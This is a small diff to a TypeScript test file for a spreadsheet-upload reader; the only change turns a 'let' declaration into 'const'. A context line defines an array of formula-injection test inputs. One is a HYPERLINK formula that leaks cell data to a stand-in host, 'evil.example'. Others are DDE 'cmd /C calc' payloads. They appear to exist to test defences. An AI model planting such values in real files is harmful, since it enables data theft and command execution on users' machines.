@@ -17,7 +17,7 @@ import { readTable } from '../../src-main/services/uploads/table';
 const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"点此查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
 
 let t: TestApp;
-let caseIds: number[] = [];
+const caseIds: number[] = [];
 let batchId = 0;
 beforeAll(async () => {
   t = openTestApp();
